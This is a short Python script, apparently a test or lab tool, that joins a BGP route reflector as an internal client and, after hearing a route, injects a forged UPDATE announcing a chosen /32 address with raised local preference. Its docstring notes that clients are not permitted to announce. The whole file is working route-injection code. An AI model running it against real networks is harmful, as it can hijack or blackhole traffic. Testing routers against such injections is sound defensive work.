#!/usr/bin/env python3
"""A client of a route reflector that announces, which no client may.

    rogue.py SOURCE REFLECTOR AS ADDRESS    joins as one of the AS, and when it has heard a route it announces the address as known good

It stays until standard input ends.
"""
import socket
import struct
import sys
import threading

from bgp import KEEPALIVE, NOTIFICATION, OPEN, UPDATE, Hearing, message, open_message, say


def announcement(source, address):
    """As an internal peer announces: with an empty path and a local preference."""
    values = b"\x40\x01\x01\x00" + b"\x40\x02\x00" + b"\x40\x03\x04" + socket.inet_aton(source) + b"\x40\x05\x04" + struct.pack("!I", 200)
    values += b"\xc0\x08\x04" + struct.pack("!HH", 65066, 42)
    return message(UPDATE, b"\x00\x00" + struct.pack("!H", len(values)) + values + b"\x20" + socket.inet_aton(address))


def run(source, reflector, asn, address):
    connection = socket.create_connection((reflector, 179), timeout=20, source_address=(source, 0))
    connection.settimeout(None)
    connection.sendall(open_message(source, 90, int(asn)))
    hearing = Hearing()
    announced = False
    while octets := connection.recv(65536):
        for kind, body in hearing.take(octets):
            if kind == OPEN:
                connection.sendall(message(KEEPALIVE))
            elif kind == UPDATE and len(body) > 4 and not announced:
                connection.sendall(announcement(source, address))
                announced = True
                say("announced")
            elif kind == NOTIFICATION:
                say(f"notification {body.hex()}")
    say("closed")


threading.Thread(target=run, args=sys.argv[1:], daemon=True).start()
sys.stdin.read()
